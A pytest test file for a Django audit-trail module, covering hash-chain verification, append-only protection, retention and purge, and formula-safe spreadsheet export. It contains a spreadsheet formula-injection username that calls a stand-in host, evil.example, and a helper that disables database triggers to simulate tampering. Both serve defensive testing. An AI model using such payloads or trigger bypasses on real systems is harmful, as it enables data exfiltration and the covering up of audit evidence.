"""The audit trail (issue 20: 8): security events with who, when, where and old → new; append-only and
hash-chained (`kechuang audit verify`); kept at least six months; exported formula-safe; read by the audit admin."""

from __future__ import annotations

import datetime as dt
import gzip
import io
import itertools
import json
import re
from unittest import mock

import pytest
from django.db import DatabaseError, connection, transaction
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from kechuang import cli
from kechuang.accounts import services
from kechuang.core import audit
from kechuang.core.models import AuditEvent


def _events(n=3):
    for i in range(n):
        audit.record(
            actor=None,
            action="policy.simulate",
            object_type="policies.policy",
            object_id=str(i),
            changes={"amount": [str(i), str(i + 1)]},
            note=f"第 {i} 次",
        )


def _tamper(sql, params):
    """Change a record behind the application's back (as someone with database access could)."""
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute("SET LOCAL session_replication_role = replica")  # user triggers off (superuser)
        else:
            cursor.execute("DROP TRIGGER core_auditevent_no_update")
        cursor.execute(sql, params)


@pytest.mark.django_db
def test_each_record_links_the_hash_of_the_one_before(world):
    _events()
    events = list(AuditEvent.objects.order_by("id"))
    assert events[0].prev_hash == ""
    for before, after in itertools.pairwise(events):
        assert after.prev_hash == before.hash and len(after.hash) == 64
        assert audit.chain_hash(after) == after.hash
    assert audit.verify().broken is None and audit.verify().checked == 3


@pytest.mark.django_db
def test_verify_command_passes_then_names_the_first_changed_record(world, capsys):
    _events()
    assert cli.main(["audit", "verify"]) == 0
    assert "审计记录哈希链完整：共 3 条" in capsys.readouterr().out
    second = AuditEvent.objects.order_by("id")[1]
    _tamper("UPDATE core_auditevent SET note = %s WHERE id = %s", ["改过的说明", second.pk])
    assert cli.main(["audit", "verify"]) == 1
    err = capsys.readouterr().err
    assert f"第一条异常记录 #{second.pk}" in err and "内容与其哈希不符" in err


@pytest.mark.django_db
def test_verify_finds_a_removed_record(world):
    _events()
    second = AuditEvent.objects.order_by("id")[1]
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute("SET LOCAL session_replication_role = replica")
        cursor.execute("DELETE FROM core_auditevent WHERE id = %s", [second.pk])
    report = audit.verify()
    assert report.broken.pk == AuditEvent.objects.order_by("id")[1].pk and "不衔接" in report.reason


@pytest.mark.django_db
def test_records_cannot_be_changed_or_deleted(world):
    _events(1)
    event = AuditEvent.objects.get()
    with pytest.raises(PermissionError):
        AuditEvent.objects.filter(pk=event.pk).update(note="x")
    with pytest.raises(PermissionError):
        AuditEvent.objects.all().delete()
    with pytest.raises(PermissionError):
        event.delete()
    event.note = "x"
    with pytest.raises(PermissionError):
        event.save()
    # Below the application too: the database refuses an UPDATE (a trigger on PostgreSQL and on SQLite).
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("UPDATE core_auditevent SET note = 'x' WHERE id = %s", [event.pk])
    if connection.vendor == "postgresql":  # and a DELETE of a record younger than the retention floor
        with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute("DELETE FROM core_auditevent WHERE id = %s", [event.pk])
    assert AuditEvent.objects.get().note == "第 0 次"


@pytest.mark.django_db
def test_retention_is_at_least_six_months_and_purge_keeps_the_chain(world, settings, capsys):
    settings.AUDIT_RETENTION_DAYS = 30  # a setting below the floor does not shorten it
    assert audit.retention_days() == 183
    old = timezone.now() - dt.timedelta(days=400)
    with mock.patch.object(timezone, "now", return_value=old):
        _events(2)
    _events(2)
    young = (timezone.localdate() - dt.timedelta(days=100)).isoformat()
    assert cli.main(["audit", "purge", "--before", young]) == 2
    assert "至少在线保存 183 天" in capsys.readouterr().err
    assert AuditEvent.objects.count() == 4
    cutoff = (timezone.localdate() - dt.timedelta(days=200)).isoformat()
    assert cli.main(["audit", "purge", "--before", cutoff]) == 0
    assert AuditEvent.objects.count() == 4  # two young + the purge's anchor + the archive's record
    purge = AuditEvent.objects.get(action="audit.purge")
    assert purge.changes["count"] == [None, 2]
    # never deleted without a copy: the two old records are in the archive file the command names
    archived = re.search(r"归档文件 (\S+)（SHA-256", capsys.readouterr().out).group(1)
    with gzip.open(archived, "rt", encoding="utf-8") as f:
        rows = [json.loads(line) for line in f][1:]
    assert [r["table"] for r in rows] == ["core_auditevent", "core_auditevent"]
    assert audit.verify().broken is None
    assert cli.main(["audit", "verify"]) == 0


@pytest.mark.django_db
def test_demo_wipe_is_refused_on_a_database_the_demo_did_not_build(world):
    _events(1)
    with pytest.raises(PermissionError, match="不是演示数据库"):
        audit.wipe_demo()
    assert AuditEvent.objects.count() == 1


@pytest.mark.django_db
def test_security_events_carry_who_where_and_old_new(world, client):
    admin = world["users"]["bureau_admin"]
    with mock.patch("kechuang.core.audit.current_address") as address:
        address.get.return_value = "192.0.2.77"
        services.update_user(
            actor=admin,
            user=world["users"]["park_operator"],
            role="bank_user",
            organisation=world["users"]["bank_user"].organisation,
            enterprise=None,
            display_name="改任",
        )
    event = AuditEvent.objects.get(action="user.update")
    assert (event.actor_name, event.address) == ("bureau_admin", "192.0.2.77")
    assert event.changes == {
        "role": ["park_operator", "bank_user"],
        "organisation": ["晋创谷运营公司", "晋商银行"],
        "display_name": ["park_operator", "改任"],
    }


@pytest.mark.django_db
def test_role_changes_in_the_admin_site_are_audited(client, world, settings):
    settings.ADMIN_ENABLED = True
    from kechuang.accounts.models import User

    admin = world["users"]["bureau_admin"]
    User.objects.filter(pk=admin.pk).update(is_staff=True, is_superuser=True)
    client.post("/accounts/login/", {"username": "bureau_admin", "password": "Kechuang@2026"})
    target = world["users"]["bureau_staff"]
    response = client.get(f"/admin/accounts/user/{target.pk}/change/")
    assert response.status_code == 200
    form = response.context["adminform"].form
    data = {
        k: v for k, v in form.initial.items() if v is not None and k not in ("password", "groups", "user_permissions")
    }
    data.update(
        {
            "role": "bureau_admin",
            "organisation": target.organisation_id,
            "last_login_0": "",
            "last_login_1": "",
            "date_joined_0": "2026-01-01",
            "date_joined_1": "00:00:00",
        }
    )
    response = client.post(f"/admin/accounts/user/{target.pk}/change/", data)
    assert response.status_code == 302, response.context["adminform"].form.errors if response.context else ""
    event = AuditEvent.objects.get(action="user.update")
    assert event.changes["role"] == ["bureau_staff", "bureau_admin"] and event.note == "管理后台"
    assert AuditEvent.objects.filter(action="admin.change", object_id=str(target.pk)).exists()


@pytest.mark.django_db
def test_export_is_formula_safe_audited_and_carries_the_chain(client, client_for, world):
    client.post(
        "/accounts/login/",
        {"username": '=HYPERLINK("http://evil.example/"&A1,"点击")', "password": "x"},
        REMOTE_ADDR="198.51.100.1",
    )
    auditor = client_for(world["users"]["audit_admin"])
    response = auditor.get(reverse("core:audit"), {"format": "xlsx"})
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    header = rows[0]
    failed = [r for r in rows[1:] if r[2] == "登录失败"]
    assert len(failed) == 1
    note = failed[0][header.index("说明")]
    assert note.startswith("用户名“=HYPERLINK")  # not a formula: it does not start with =
    assert failed[0][header.index("来源地址")] == "198.51.100.1" and len(failed[0][header.index("记录哈希")]) == 64
    assert AuditEvent.objects.filter(action="audit.export", actor_name="audit_admin").count() == 1


@pytest.mark.django_db
def test_bureau_admin_sees_business_events_the_audit_admin_all(client, client_for, world):
    from kechuang.enterprises import services as registry

    client.post("/accounts/login/", {"username": "nobody", "password": "x"})
    registry.update_enterprise(world["a"], {"name": "太原甲新材料有限公司"}, actor=world["users"]["bureau_staff"])
    admin_page = client_for(world["users"]["bureau_admin"]).get(reverse("core:audit")).content.decode()
    assert "修改企业信息" in admin_page and "登录失败" not in admin_page
    audit_page = client_for(world["users"]["audit_admin"]).get(reverse("core:audit")).content.decode()
    assert "修改企业信息" in audit_page and "登录失败" in audit_page and "至少保存 365 天" in audit_page


def test_timestamps_in_changes_read_as_local_minutes():
    text = audit.changes_text("accounts.user", {"locked_until": [None, "2026-12-07T03:52:26.546782+00:00"]})
    assert text == "锁定至：空 → 2026-12-07 11:52"
    assert audit.changes_text("tiers.tierrun", {"as_of": ["2025-06-01", "2025-06-30"]}).endswith(
        "2025-06-01 → 2025-06-30"
    )
